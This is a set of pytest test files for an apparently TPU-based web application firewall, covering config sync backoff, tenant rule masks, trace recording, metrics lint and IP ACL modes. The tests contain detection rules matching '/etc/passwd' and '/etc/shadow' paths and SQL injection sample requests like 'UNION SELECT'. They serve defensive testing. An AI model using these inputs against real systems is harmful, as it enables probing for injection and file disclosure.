    # (the acl payload of these ingresses is the empty default)
    sc.last_acls = {"acls": {}, "tenant_acl": {}}
    ings = [ing(annotations={"wallarm-mode": "block",
                             "detection-backend": "tpu",
                             "detection-rule-tags": "attack-sqli"})]
    r1 = sc.sync(ings)
    assert not r1.pushed_tenants
    assert any("retry in" in e for e in r1.errors)
    st = sc.retry_state()
    assert st["tenants"]["dirty"] and st["tenants"]["attempts"] == 1
    # same inputs, backoff NOT elapsed: no wire attempt (bounded retry,
    # not a hammer), and the action honestly reads noop
    n_posts = len(posts)
    r2 = sc.sync(ings)
    assert r2.action == "noop" and len(posts) == n_posts

    # ticks across elapsing backoffs: attempts 2 and 3 fail and the
    # wait grows exponentially; attempt 4 lands and clears the channel
    waits = []
    for _ in range(3):
        before = sc._channels["tenants"].next_retry
        clock[0] = before + 0.01
        r = sc.sync(ings)
        waits.append(sc._channels["tenants"].next_retry - clock[0])
        if r.pushed_tenants:
            break
    assert sc.retry_state()["tenants"]["dirty"] is False
    assert sc.retry_state()["tenants"]["attempts"] == 0
    # backoff grew while it was failing (1s, 2s, 4s ladder)
    assert waits[0] > 1.9 and waits[1] > 3.9
    # the payload that finally landed is the tenant table
    assert posts[-1][1] == "/configuration/tenants"
    assert any("attack-sqli" in str(v) for v in posts[-1][2].values())

    # a NEW diff while dirty resets the backoff and pushes the LATEST
    # payload promptly
    fail_first[0] = 1
    ings2 = [ing(annotations={"wallarm-mode": "block",
                              "detection-backend": "tpu",
                              "detection-rule-tags": "attack-xss"})]
    sc.sync(ings2)              # fails, channel dirty again
    assert sc.retry_state()["tenants"]["dirty"]
    ings3 = [ing(annotations={"wallarm-mode": "block",
                              "detection-backend": "tpu",
                              "detection-rule-tags": "attack-lfi"})]
    clock[0] += 0.1             # well inside the pending backoff
    r = sc.sync(ings3)          # intent changed -> immediate retry
    assert r.pushed_tenants
    assert any("attack-lfi" in str(v) for v in posts[-1][2].values())


def test_sync_backoff_is_bounded():
    from ingress_plus_tpu.control.sync import RETRY_MAX_S

    sc = SyncController()
    clock = [0.0]
    sc._now = lambda: clock[0]
    sc._post = lambda path, obj: False
    ch = sc._channels["tenants"]
    ch.mark({"1": ["x"]})
    for _ in range(12):
        clock[0] = ch.next_retry
        sc.flush_pending()
    assert ch.next_retry - clock[0] <= RETRY_MAX_S
    assert ch.dirty and ch.attempts == 12


def test_ruleset_checkpoint_roundtrips_tags(tmp_path):
    cr = compile_ruleset(parse_seclang(RULES))
    cr.save(tmp_path / "art")
    cr2 = CompiledRuleset.load(tmp_path / "art")
    assert [m.rule.tags for m in cr2.rules] == \
        [m.rule.tags for m in cr.rules]
    assert cr2.version == cr.version


def test_tenant_masks_unlisted_tenant_runs_full_ruleset():
    """A gap in the pushed table must never mean 'scan nothing'."""
    cr = compile_ruleset(parse_seclang(RULES))
    masks = tenant_masks(cr, {2: ("attack-xss",)})
    assert masks.shape[0] == 3
    assert masks[0].all() and masks[1].all()          # unlisted → full set
    assert not masks[2].all()
    # reserved row 0 cannot be overridden; out-of-bounds ids are dropped
    masks = tenant_masks(cr, {0: ("attack-xss",), 10**9: ("attack-xss",)})
    assert masks.shape[0] == 1 and masks[0].all()


def test_validate_tenant_tags_accepts_canonical_table():
    """The accept path: canonical ids, list-of-string tags, within the
    MAX_TENANTS budget → the exact table tenant_masks consumes."""
    got = validate_tenant_tags({"1": ["attack-xss"],
                                "42": ["attack-sqli", "attack-xss"],
                                "0": []})
    assert got == {1: ("attack-xss",),
                   42: ("attack-sqli", "attack-xss"),
                   0: ()}


def test_validate_tenant_tags_rejects_oversized_and_collapsing():
    """The reject paths (ISSUE 10 satellite): a payload that would
    silently truncate the mask table or silently collapse two keys
    into one row must be a structured error, never a partial install."""
    # > MAX_TENANTS entries: tenant_masks would silently drop the tail
    big = {str(i): [] for i in range(MAX_TENANTS + 1)}
    with pytest.raises(ValueError, match="too many tenants"):
        validate_tenant_tags(big)
    # non-canonical key: "01" and "1" would collapse, last writer wins
    with pytest.raises(ValueError, match="not canonical"):
        validate_tenant_tags({"01": ["attack-xss"], "1": []})
    # non-integer key
    with pytest.raises(ValueError, match="not an integer"):
        validate_tenant_tags({"abc": []})
    # out-of-range id (would be silently dropped by tenant_masks)
    with pytest.raises(ValueError, match=r"\[0, 4096\)"):
        validate_tenant_tags({str(MAX_TENANTS): []})
    with pytest.raises(ValueError, match=r"\[0, 4096\)"):
        validate_tenant_tags({"-1": []})
    # a bare string iterates per-character into no-match tags →
    # all-False mask → scan bypass
    with pytest.raises(ValueError, match="lists of strings"):
        validate_tenant_tags({"1": "attack-xss"})
    with pytest.raises(ValueError, match="must be a JSON object"):
        validate_tenant_tags(["1"])


def test_explicit_mode_off_is_honored_as_opt_out():
    g = GlobalConfig(enable_detection=True, default_mode="block")
    cfg = build_configuration(
        [ing(name="optout", annotations={"wallarm-mode": "off"}),
         ing(name="plain", host="p.example.com")], g)
    locs = {l.ingress_key: l for s in cfg.servers for l in s.locations}
    assert locs["default/optout"].detection.mode == "off"
    assert locs["default/plain"].detection.mode == "block"


def test_sync_acl_payload_and_render():
    """wallarm-acl wiring (VERDICT r03 item #6): annotation → rendered
    detect_tpu_acl directive + tenant binding in the sync push payload;
    ACL content from the ConfigMap tier; dangling names are model
    errors, not silent no-ops."""
    import json as _json

    from ingress_plus_tpu.control.config import GlobalConfig

    g = GlobalConfig()
    g.acls = _json.dumps({"edge": {"deny": ["203.0.113.0/24"],
                                   "greylist": ["198.51.100.0/24"]}})
    sc = SyncController(global_config=g)
    ings = [ing(annotations={"wallarm-mode": "safe_blocking",
                             "detection-backend": "tpu",
                             "wallarm-acl": "edge"})]
    r = sc.sync(ings, push=False)
    assert "detect_tpu_acl edge;" in r.rendered
    assert "detect_tpu_mode safe_blocking;" in r.rendered
    payload = sc._acl_payload(r.configuration)
    assert payload["acls"]["edge"]["deny"] == ["203.0.113.0/24"]
    assert list(payload["tenant_acl"].values()) == ["edge"]

    # binding to an ACL with no ConfigMap content → model error + dropped
    g2 = GlobalConfig()
    sc2 = SyncController(global_config=g2)
    r2 = sc2.sync([ing(annotations={"detection-backend": "tpu",
                                    "wallarm-mode": "block",
                                    "wallarm-acl": "ghost"})], push=False)
    assert any("ghost" in e for e in r2.errors), r2.errors
    assert sc2._acl_payload(r2.configuration)["tenant_acl"] == {}
