"""Cycle flight recorder (ISSUE 12, docs/OBSERVABILITY.md "Cycle
flight recorder"): per-thread ring bound/evict/drop accounting,
cross-thread flow stitching for a request spanning a lane worker AND a
confirm worker, Perfetto/Chrome-trace schema round trip, overlap-report
math on a synthetic event stream with a KNOWN overlap fraction, the
``--no-flight-recorder`` escape hatch zeroing the surface, the
clean-path A/B overhead bound, the slow-ring worker=/tenant=/
generation= satellite, and the promlint / bench-trend satellite
checkers."""

import asyncio
import json
import time

import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.batcher import Batcher
from ingress_plus_tpu.serve.normalize import Request
from ingress_plus_tpu.utils import trace as trace_mod
from ingress_plus_tpu.utils.overlap import (
    brief,
    check_claims,
    overlap_report,
    spans_from_events,
)
from ingress_plus_tpu.utils.trace import (
    EV_CONFIRM,
    EV_CYCLE,
    EV_DEVICE,
    EV_DRAIN,
    EV_SUBMIT,
    EV_VERDICT,
    PH_B,
    PH_E,
    PH_I,
    FlightRecorder,
    flight,
    request_tag,
)

RULES = """
SecRule ARGS|REQUEST_BODY "@rx (?i)union\\s+select" "id:942100,phase:2,block,t:urlDecodeUni,t:lowercase,severity:CRITICAL,tag:'attack-sqli'"
SecRule REQUEST_URI|ARGS "@rx /etc/(?:passwd|shadow)" "id:930120,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
"""


@pytest.fixture(scope="module")
def cr():
    return compile_ruleset(parse_seclang(RULES))


@pytest.fixture(autouse=True)
def fresh_flight():
    """Isolate the process-global recorder per test (rings re-arm
    lazily on the next event; enabled state restored to the default)."""
    flight.configure(ring_kb=256, enabled=True)
    yield
    flight.configure(ring_kb=256, enabled=True)


def _reqs(n, attack_every=2):
    out = []
    for i in range(n):
        if i % attack_every == 0:
            r = Request(uri="/p?q=1%27%20UNION%20SELECT%20x",
                        headers={}, body=b"", request_id="atk-%d" % i)
        else:
            r = Request(uri="/ok?page=%d" % i, headers={}, body=b"",
                        request_id="ben-%d" % i)
        out.append(r)
    return out


def _serve(batcher, reqs, timeout=60):
    futs = [batcher.submit(r) for r in reqs]
    return [f.result(timeout=timeout) for f in futs]


# ------------------------------------------------- ring accounting

def test_ring_bound_evict_drop_accounting():
    rec = FlightRecorder(ring_kb=1)   # floor: 64 slots
    cap = rec._cap()
    assert cap == 64
    n = 200
    for i in range(n):
        rec.instant(EV_SUBMIT, cycle=1, tag=i)
    snap = rec.snapshot()
    assert len(snap["events"]) == cap          # bounded, oldest evicted
    assert snap["dropped"] == n - cap          # every eviction counted
    # chronological, newest retained: tags are the LAST cap values
    tags = [e[5] for e in snap["events"]]
    assert tags == list(range(n - cap, n))
    # timestamps monotonic within the ring
    ts = [e[1] for e in snap["events"]]
    assert ts == sorted(ts)


def test_ring_cap_scales_with_kb():
    rec = FlightRecorder(ring_kb=256)
    assert rec._cap() == (256 * 1024) // trace_mod.EVENT_BYTES


# ------------------------------------- cross-thread flow stitching

def test_cross_thread_flow_lane_plus_confirm_worker(cr):
    """A request's path is followable across admission → lane worker →
    confirm worker → verdict: the submit/verdict flow tags match, and
    the cycle id stitches device spans (lane worker threads) to confirm
    spans (confirm worker threads)."""
    pipe = DetectionPipeline(cr, mode="block", confirm_workers=2)
    b = Batcher(pipe, max_batch=8, n_lanes=2)
    try:
        reqs = _reqs(32)
        vs = _serve(b, reqs)
        assert sum(v.attack for v in vs) == 16
        snap = flight.snapshot()
    finally:
        b.close()
    roots = {t["root"] for t in snap["threads"]}
    assert {"dispatch", "lane_worker", "confirm_worker",
            "watchdog", "oversized"} <= roots
    by_code = {}
    for e in snap["events"]:
        by_code.setdefault(e[2], []).append(e)
    # flow endpoints: every request's submit tag has a matching verdict
    sub_tags = {e[5] for e in by_code.get(EV_SUBMIT, ())}
    ver_tags = {e[5] for e in by_code.get(EV_VERDICT, ())}
    want = {request_tag(r.request_id) for r in reqs}
    assert want <= sub_tags
    assert want <= ver_tags
    # cycle stitching: device spans (lane workers) and confirm spans
    # (confirm workers) share cycle ids with the dispatch thread's
    # cycle envelopes — and run on DIFFERENT threads
    tid_root = {t["tid"]: t["root"] for t in snap["threads"]}
    dev_cycles = {e[4] for e in by_code.get(EV_DEVICE, ())
                  if tid_root[e[0]] == "lane_worker" and e[4] > 0}
    conf_cycles = {e[4] for e in by_code.get(EV_CONFIRM, ())
                   if tid_root[e[0]] == "confirm_worker" and e[4] > 0}
    cyc_cycles = {e[4] for e in by_code.get(EV_CYCLE, ())
                  if tid_root[e[0]] == "dispatch" and e[4] > 0}
    assert dev_cycles and conf_cycles
    assert dev_cycles <= cyc_cycles
    assert conf_cycles <= cyc_cycles
    assert dev_cycles & conf_cycles   # same cycle crossed both planes
    # both lanes and both confirm workers actually recorded
    assert {e[5] for e in by_code.get(EV_DEVICE, ())} >= {0, 1}
    assert {e[5] for e in by_code.get(EV_CONFIRM, ())} >= {0, 1}


# --------------------------------------------- Perfetto round trip

def test_chrome_trace_schema_round_trip(cr):
    pipe = DetectionPipeline(cr, mode="block")
    b = Batcher(pipe, max_batch=8)
    try:
        _serve(b, _reqs(24))
        ct = flight.chrome_trace(cycles=16)
    finally:
        b.close()
    # JSON round trip: the exact bytes /debug/trace serves load back
    loaded = json.loads(json.dumps(ct))
    events = loaded["traceEvents"]
    assert isinstance(events, list) and events
    phases = {e["ph"] for e in events}
    # matched begin/end: the exporter folds B/E into complete X slices
    # — no unmatched B or E phase ever reaches the output
    assert "B" not in phases and "E" not in phases
    assert "X" in phases and "M" in phases
    tids_meta = {e["tid"] for e in events if e["ph"] == "M"}
    per_thread_ts = {}
    for e in events:
        if e["ph"] == "M":
            assert e["name"] == "thread_name"
            assert e["args"]["name"]
            continue
        assert e["tid"] in tids_meta      # every event's thread named
        assert e["ts"] >= 0
        per_thread_ts.setdefault((e["tid"], e["ph"]), []).append(e["ts"])
        if e["ph"] == "X":
            assert e["dur"] > 0
    # monotonic timestamps: the global event list is time-sorted
    ts = [e["ts"] for e in events if e["ph"] != "M"]
    assert ts == sorted(ts)
    # request flows: every finish has a start with the same id
    starts = {e["id"] for e in events if e["ph"] == "s"}
    finishes = {e["id"] for e in events if e["ph"] == "f"}
    assert finishes and finishes <= starts


# ------------------------------------------------ overlap-report math

def _ms(x):
    return int(x * 1e6)   # ms → ns


def _synthetic_snapshot():
    """Known structure: cycle [0,100]ms on dispatch, device busy
    [0,50]ms on a lane worker, confirm [30,90]ms on a confirm worker,
    drain [90,100]ms on dispatch.  Overlap = [30,50] = 20ms of the
    60ms confirm → fraction 1/3."""
    threads = [
        {"tid": 0, "root": "dispatch", "thread": "ipt-batcher",
         "dropped": 0},
        {"tid": 1, "root": "lane_worker", "thread": "ipt-device-0",
         "dropped": 0},
        {"tid": 2, "root": "confirm_worker", "thread": "ipt-confirm-1",
         "dropped": 0},
    ]
    events = [
        (0, _ms(0), EV_CYCLE, PH_B, 1, 0, 4),
        (1, _ms(0), EV_DEVICE, PH_B, 1, 0, 4),
        (2, _ms(30), EV_CONFIRM, PH_B, 1, 0, 4),
        (1, _ms(50), EV_DEVICE, PH_E, 1, 0, 0),
        (2, _ms(90), EV_CONFIRM, PH_E, 1, 0, 0),
        (0, _ms(90), EV_DRAIN, PH_B, 0, 0, 0),
        (0, _ms(100), EV_DRAIN, PH_E, 0, 0, 0),
        (0, _ms(100), EV_CYCLE, PH_E, 1, 0, 0),
    ]
    events.sort(key=lambda e: e[1])
    return {"enabled": True, "ring_kb": 256, "threads": threads,
            "events": events, "dropped": 0}


def test_overlap_backfills_silent_lanes():
    """A lane that recorded NO device span (wedged/starved) must show
    idle 1.0, not vanish from the report."""
    rep = overlap_report(_synthetic_snapshot(), confirm_workers=2,
                         n_lanes=3)
    assert rep["lane_idle_share"]["1"] == 1.0
    assert rep["lane_idle_share"]["2"] == 1.0
    assert rep["lane_idle_share"]["0"] == pytest.approx(0.5, abs=1e-4)


def test_overlap_report_known_fraction():
    rep = overlap_report(_synthetic_snapshot(), confirm_workers=2,
                         n_lanes=1)
    assert rep is not None
    assert rep["cycles"] == 1
    assert rep["window_ms"] == 100.0
    assert rep["scan_confirm_overlap"] == pytest.approx(20 / 60,
                                                        abs=1e-4)
    assert rep["lane_idle_share"]["0"] == pytest.approx(0.5, abs=1e-4)
    assert rep["drain_occupancy"] == pytest.approx(0.1, abs=1e-4)
    # confirm (60ms) out-lasts device (50ms): the cycle's critical path
    assert next(iter(rep["critical_path"])) == "confirm_share"
    # serialized residue: confirm worker holds the largest exclusive
    # share (40ms of the 90ms any-busy union)
    top = rep["serialized_residue"][0]
    assert top["thread"].startswith("confirm_worker")
    assert top["exclusive_share"] == pytest.approx(40 / 90, abs=1e-3)
    b = brief(rep)
    assert b["scan_confirm_overlap"] == rep["scan_confirm_overlap"]
    assert b["bounding_thread"]["thread"].startswith("confirm_worker")


def test_overlap_spans_and_empty_window():
    spans = spans_from_events(_synthetic_snapshot())
    assert len(spans) == 4
    assert overlap_report({"threads": [], "events": [],
                           "dropped": 0}) is None
    # missing report is itself a LOUD claim-check finding
    assert check_claims(None)


def test_check_claims_flags_serialized_thread():
    snap = _synthetic_snapshot()
    # remove the confirm span → device alone, 100% exclusive
    snap["events"] = [e for e in snap["events"] if e[2] != EV_CONFIRM]
    rep = overlap_report(snap, confirm_workers=4, n_lanes=2)
    warns = check_claims(rep)
    assert any("critical path" in w for w in warns)


# ------------------------------------------------- escape hatch

def test_no_flight_recorder_zeroes_surface(cr):
    flight.configure(enabled=False)
    pipe = DetectionPipeline(cr, mode="block")
    b = Batcher(pipe, max_batch=8)
    try:
        vs = _serve(b, _reqs(16))
        assert len(vs) == 16              # verdicts unaffected
        snap = flight.snapshot()
        assert snap["events"] == []
        assert snap["threads"] == []
        assert snap["enabled"] is False
        ct = flight.chrome_trace()
        assert ct["traceEvents"] == []
        # /debug/trace reports disabled with an empty event list
        from ingress_plus_tpu.serve.server import ServeLoop
        serve = ServeLoop(b, socket_path="/tmp/ipt-flight-test.sock")

        async def _call():
            return await serve._route_http("GET", "/debug/trace", b"")

        status, _ctype, body = asyncio.run(_call())
        assert status.startswith("200")
        out = json.loads(body)
        assert out == {"enabled": False, "traceEvents": []}
        # /healthz pipeline_overlap goes null
        assert serve._pipeline_overlap_brief() is None
    finally:
        b.close()


def test_debug_trace_endpoint_perfetto_loadable(cr):
    pipe = DetectionPipeline(cr, mode="block")
    b = Batcher(pipe, max_batch=8)
    try:
        _serve(b, _reqs(12))
        from ingress_plus_tpu.serve.server import ServeLoop
        serve = ServeLoop(b, socket_path="/tmp/ipt-flight-test2.sock")

        async def _call():
            return await serve._route_http(
                "GET", "/debug/trace?cycles=8", b"")

        status, ctype, body = asyncio.run(_call())
        assert status.startswith("200")
        out = json.loads(body)
        assert out["traceEvents"]
        assert {e["ph"] for e in out["traceEvents"]} <= \
            {"M", "X", "i", "s", "f"}
        # the healthz brief carries the compact block
        ov = serve._pipeline_overlap_brief()
        assert ov is not None and ov["cycles"] >= 1
    finally:
        b.close()


# ----------------------------------------------- clean-path overhead

def test_clean_path_ab_overhead(cr):
    """Recorder-on vs recorder-off A/B on the library detect path.
    The pinned <3% budget is enforced on the bench's same-host A/B
    (CHANGES.md carries the measured number); this in-suite assertion
    uses a noise-tolerant bound so a loaded CI host cannot flake it,
    while still catching an accidentally-hot record path (a 2x
    regression fails loudly)."""
    pipe = DetectionPipeline(cr, mode="block")
    reqs = _reqs(16)
    pipe.detect(reqs)                      # compile outside the clock

    def measure(enabled, iters=60):
        flight.configure(enabled=enabled)
        best = float("inf")
        for _ in range(3):
            t0 = time.perf_counter()
            for _ in range(iters):
                pipe.detect(reqs)
            best = min(best, time.perf_counter() - t0)
        return best

    t_off = measure(False)
    t_on = measure(True)
    ratio = t_on / t_off
    assert ratio < 1.30, (
        "flight recorder clean-path overhead ratio %.3f (on=%.4fs "
        "off=%.4fs) — the record() path got hot" % (ratio, t_on, t_off))


# ------------------------------------------- slow-ring satellite dims

def test_slow_ring_carries_worker_tenant_generation(cr):
    pipe = DetectionPipeline(cr, mode="block", confirm_workers=2)
    b = Batcher(pipe, max_batch=8, n_lanes=2)
    try:
        reqs = _reqs(24)
        for i, r in enumerate(reqs):
            r.tenant = i % 3
        vs = _serve(b, reqs)
        assert {v.confirm_worker for v in vs if not v.fail_open} \
            == {0, 1}
        exemplars = b.slow.snapshot()
        assert exemplars
        for e in exemplars:
            assert "worker" in e and "tenant" in e and "generation" in e
            assert e["tenant"] in (0, 1, 2)
            assert e["generation"] == pipe.generation_tag
            assert e["worker"] in (-1, 0, 1)
        assert {e["worker"] for e in exemplars} & {0, 1}
    finally:
        b.close()


def test_dbg_latency_renders_new_dims(cr):
    from ingress_plus_tpu.control.dbg import render_latency
    slow = {"slowest": [{"request_id": "r1", "e2e_us": 1200,
                         "queue_us": 10, "batch": {"prep_us": 1},
                         "lane": 0, "worker": 1, "tenant": 7,
                         "generation": "crs-4.3.0+g1",
                         "rule_ids": [942100]}]}
    out = render_latency("", slow)
    assert "wrk" in out and "ten" in out and "gen" in out
    assert "crs-4.3.0+g" in out and " 7 " in out


def test_dbg_timeline_render(cr):
    pipe = DetectionPipeline(cr, mode="block")
    b = Batcher(pipe, max_batch=8)
    try:
        _serve(b, _reqs(12))
        ct = flight.chrome_trace(cycles=6)
    finally:
        b.close()
    from ingress_plus_tpu.control.dbg import render_timeline
    out = render_timeline(ct)
    assert "cycle " in out
    assert "device_busy" in out or "host_prep" in out
    assert "|" in out and "#" in out
    # disabled surface renders the explanation, not a stack trace
    assert "disabled" in render_timeline(
        {"enabled": False, "traceEvents": []})


# ------------------------------------------------ promlint satellite

def test_promlint_checker_units():
    from ingress_plus_tpu.analysis.promlint import check_exposition
    good = "\n".join([
        "# HELP ipt_good_total good things",
        "# TYPE ipt_good_total counter",
        "ipt_good_total 3",
        "# HELP ipt_h histogram of things",
        "# TYPE ipt_h histogram",
        'ipt_h_bucket{le="1"} 1',
        'ipt_h_bucket{le="+Inf"} 2',
        "ipt_h_sum 2",
        "ipt_h_count 2",
    ])
    assert check_exposition(good) == []
    assert any("namespace prefix" in f for f in check_exposition(
        "# HELP foo_total x\n# TYPE foo_total counter\nfoo_total 1"))
    assert any("_total" in f for f in check_exposition(
        "# HELP ipt_bad x\n# TYPE ipt_bad counter\nipt_bad 1"))
    assert any("TYPE without # HELP" in f for f in check_exposition(
        "# TYPE ipt_x_total counter\nipt_x_total 1"))
    assert any("no # TYPE" in f for f in check_exposition(
        "ipt_untyped_total 1"))
    assert any("+Inf" in f for f in check_exposition(
        "# HELP ipt_h x\n# TYPE ipt_h histogram\n"
        'ipt_h_bucket{le="1"} 1'))
    assert any("non-monotonic" in f for f in check_exposition(
        "# HELP ipt_h x\n# TYPE ipt_h histogram\n"
        'ipt_h_bucket{le="1"} 5\nipt_h_bucket{le="+Inf"} 2'))
    # unbounded per-rule series: the satellite's reason to exist
    unbounded = ["# HELP ipt_rule_total x", "# TYPE ipt_rule_total counter"]
    unbounded += ['ipt_rule_total{rule="%d"} 1' % i for i in range(50)]
    assert any("unbounded" in f
               for f in check_exposition("\n".join(unbounded)))


def test_promlint_live_exposition_clean(cr):
    """The REAL exposition passes its own lint after multi-tenant
    traffic (the in-process twin of the CI gate, on the small pack)."""
    from ingress_plus_tpu.analysis.promlint import check_exposition
    from ingress_plus_tpu.serve.server import ServeLoop
    pipe = DetectionPipeline(cr, mode="monitoring")
    b = Batcher(pipe, max_batch=16)
    try:
        reqs = _reqs(64)
        for i, r in enumerate(reqs):
            r.tenant = i % 48     # past the 30-series fold budget
        _serve(b, reqs)
        serve = ServeLoop(b, socket_path="/tmp/ipt-promlint-test.sock")
        text = serve._metrics_text()
    finally:
        b.close()
    assert check_exposition(text) == []
    # the tenant fold actually engaged (48 tenants > the 30 budget)
    assert 'tenant="other"' in text
    # HELP precedes TYPE for the headline metrics
    assert "# HELP ipt_requests_total" in text


# ---------------------------------------------- bench-trend satellite

def test_bench_trend_gate(tmp_path):
    from tools.bench_trend import REGRESSION_GATE, load_artifacts, trend

    def art(tag, value, error=None):
        parsed = {"value": value, "platform": "cpu"}
        if error:
            parsed["error"] = error
        (tmp_path / ("BENCH_%s.json" % tag)).write_text(json.dumps(
            {"parsed": parsed}))

    # no artifacts → SKIP (a fresh tree never fails CI)
    assert trend(load_artifacts(str(tmp_path)))["status"] == "SKIP"
    art("r01", 1000.0)
    assert trend(load_artifacts(str(tmp_path)))["status"] == "SKIP"
    # healthy growth → OK
    art("r02", 1500.0)
    rep = trend(load_artifacts(str(tmp_path)))
    assert rep["status"] == "OK" and rep["latest"] == "r02"
    # >10% regression vs the previous snapshot → FAIL
    art("r03", 1500.0 * (1 - REGRESSION_GATE) - 1)
    rep = trend(load_artifacts(str(tmp_path)))
    assert rep["status"] == "FAIL"
    assert "regressed" in rep["detail"]
    # recovery → OK again, with the best-ever note not gating
    art("r04", 1490.0)
    rep = trend(load_artifacts(str(tmp_path)))
    assert rep["status"] == "OK"
    # a regression measured on a DEGRADED host (the artifact's own
    # error tag) warns but does not hard-fail CI on infrastructure
    art("r05", 500.0, error="tpu-unavailable: backend init hung")
    rep = trend(load_artifacts(str(tmp_path)))
    assert rep["status"] == "OK"
    assert any("degraded-host" in w for w in rep["warnings"])


# ------------------------------- stage shares (ISSUE 13 host_prep rank)

def test_overlap_stage_shares_known_values():
    """device busy [0,50], confirm [30,90] → stage-busy union 90ms:
    device busy 50/90 with [0,30] exclusive, confirm [50,90]
    exclusive; no host_prep span recorded → 0 shares."""
    rep = overlap_report(_synthetic_snapshot(), confirm_workers=2,
                         n_lanes=1)
    ss = rep["stage_shares"]
    assert ss["device_scan"]["busy_share"] == pytest.approx(50 / 90,
                                                            abs=1e-3)
    assert ss["device_scan"]["exclusive_share"] == pytest.approx(
        30 / 90, abs=1e-3)
    assert ss["confirm"]["exclusive_share"] == pytest.approx(40 / 90,
                                                             abs=1e-3)
    assert ss["host_prep"]["busy_share"] == 0.0
    # healthy structure: host prep does NOT rank above the device
    assert not any("host_prep" in w for w in check_claims(rep))


def test_check_claims_flags_host_prep_above_device():
    """A timeline where host prep out-ranks the device lanes in
    exclusive busy must produce the ISSUE 13 claim-check warning — the
    condition the raw-byte device path exists to remove."""
    from ingress_plus_tpu.utils.trace import EV_PREP

    threads = [
        {"tid": 0, "root": "dispatch", "thread": "ipt-batcher",
         "dropped": 0},
        {"tid": 1, "root": "lane_worker", "thread": "ipt-device-0",
         "dropped": 0},
    ]
    events = [
        (0, _ms(0), EV_CYCLE, PH_B, 1, 0, 4),
        (0, _ms(0), EV_PREP, PH_B, 1, 0, 4),
        (0, _ms(60), EV_PREP, PH_E, 1, 0, 0),
        (1, _ms(60), EV_DEVICE, PH_B, 1, 0, 4),
        (1, _ms(70), EV_DEVICE, PH_E, 1, 0, 0),
        (0, _ms(100), EV_CYCLE, PH_E, 1, 0, 0),
    ]
    snap = {"enabled": True, "ring_kb": 256, "threads": threads,
            "events": sorted(events, key=lambda e: e[1]), "dropped": 0}
    rep = overlap_report(snap, confirm_workers=1, n_lanes=1)
    ss = rep["stage_shares"]
    assert ss["host_prep"]["exclusive_share"] > \
        ss["device_scan"]["exclusive_share"]
    warns = check_claims(rep)
    assert any("host_prep ranks ABOVE" in w for w in warns)


# ------------------------- bench-trend backend guard (ISSUE 13 sat.)

def test_bench_trend_refuses_cross_backend(tmp_path):
    """A CPU→TPU flip (or the reverse fallback) must never read as a
    10x win or a regression: the gate refuses the comparison, and the
    best-ever note only compares same-backend points."""
    from tools.bench_trend import load_artifacts, trend

    def art(tag, value, platform):
        (tmp_path / ("BENCH_%s.json" % tag)).write_text(json.dumps(
            {"parsed": {"value": value, "platform": platform}}))

    art("r01", 1000.0, "cpu")
    art("r02", 8000.0, "tpu")      # flip up: NOT a 8x win
    rep = trend(load_artifacts(str(tmp_path)))
    assert rep["status"] == "SKIP"
    assert any("not comparable" in w for w in rep["warnings"])
    art("r03", 900.0, "cpu")       # flip back down: NOT a regression
    assert trend(load_artifacts(str(tmp_path)))["status"] == "SKIP"
    art("r04", 950.0, "cpu")       # same backend again: gating resumes
    rep = trend(load_artifacts(str(tmp_path)))
    assert rep["status"] == "OK"
    # the tpu point is not this trajectory's best-ever
    assert not any("r02" in w for w in rep.get("warnings", []))
    art("r05", 100.0, "cpu")       # same-backend regression still gates
    assert trend(load_artifacts(str(tmp_path)))["status"] == "FAIL"
