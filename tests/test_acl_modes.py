"""wallarm-acl enforcement + safe_blocking mode semantics
(VERDICT r03 missing #4/#5 → next-round item #6).

The reference's ACL blocks by source-IP list and safe_blocking blocks
only greylisted sources (SURVEY.md §2.1 wallarm annotations†); round 3
parsed/rendered both but nothing enforced them.  These tests pin the
round-4 runtime: Acl longest-prefix decisions, the hot-swap endpoint,
pipeline verdicts per mode, and the trusted client-ip plumbing.
"""


import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.models.acl import Acl, AclError, AclStore, CLIENT_IP_HEADER
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.normalize import Request
from ingress_plus_tpu.serve.protocol import (
    MODE_GREYLIST,
    decode_request,
    encode_request,
)

_RULES = """
SecRule ARGS "@rx (?i)union\\s+select" \\
    "id:942100,phase:2,block,msg:'sqli',severity:'CRITICAL',\\
    tag:'attack-sqli',tag:'paranoia-level/1'"
"""

_H = {"host": "x.example", "user-agent": "Mozilla/5.0"}


@pytest.fixture(scope="module")
def ruleset():
    return compile_ruleset(parse_seclang(_RULES))


def _attack(ip="", grey=False, mode=2):
    return Request(uri="/s?q=union+select+1", headers=dict(_H),
                   request_id="a", client_ip=ip, greylisted=grey, mode=mode)


def _benign(ip="", mode=2):
    return Request(uri="/s?q=kittens", headers=dict(_H), request_id="b",
                   client_ip=ip, mode=mode)


# ------------------------------------------------------------- Acl unit

def test_acl_longest_prefix_and_tiebreak():
    acl = Acl("t", allow=["10.0.0.0/8"], deny=["10.1.0.0/16"],
              greylist=["10.1.2.0/24"])
    assert acl.match("10.9.9.9") == "allow"
    assert acl.match("10.1.9.9") == "deny"
    assert acl.match("10.1.2.3") == "greylist"   # /24 beats /16
    assert acl.match("192.168.1.1") is None
    assert acl.match("not-an-ip") is None


def test_acl_equal_specificity_fails_closed():
    acl = Acl("t", allow=["10.0.0.0/24"], deny=["10.0.0.0/24"])
    assert acl.match("10.0.0.5") == "deny"


def test_acl_v6():
    acl = Acl("t", deny=["2001:db8::/32"])
    assert acl.match("2001:db8::1") == "deny"
    assert acl.match("2001:db9::1") is None


def test_acl_bad_cidr_rejected():
    with pytest.raises(AclError):
        Acl("t", deny=["10.0.0.0/99"])
    store = AclStore()
    store.swap({"good": {"deny": ["10.0.0.1/32"]}})
    with pytest.raises(AclError):   # bad swap leaves previous registry
        store.swap({"bad": {"deny": ["nope"]}})
    assert store.names() == ["good"]


# ----------------------------------------------------- pipeline verdicts

def test_acl_deny_blocks_and_classes(ruleset):
    p = DetectionPipeline(ruleset, mode="block", default_acl="main")
    p.acl_store.swap({"main": {"deny": ["203.0.113.0/24"]}})
    v = p.detect([_benign(ip="203.0.113.9")])[0]
    assert v.blocked and v.attack and "acl" in v.classes
    v = p.detect([_benign(ip="198.51.100.9")])[0]
    assert not v.blocked and not v.attack


